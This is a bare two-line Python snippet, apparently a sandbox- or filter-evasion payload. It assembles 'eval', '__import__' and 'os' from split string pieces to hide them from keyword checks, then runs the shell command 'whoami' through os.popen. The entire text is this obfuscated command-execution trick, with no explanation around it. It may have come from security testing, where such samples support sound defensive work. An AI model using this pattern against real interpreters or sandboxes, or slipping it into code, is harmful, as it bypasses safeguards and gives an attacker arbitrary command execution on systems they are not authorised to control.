fn = getattr(__builtins__, "ev" + "al")
fn("__imp" + "ort__('o' + 's').popen('whoami').read()")
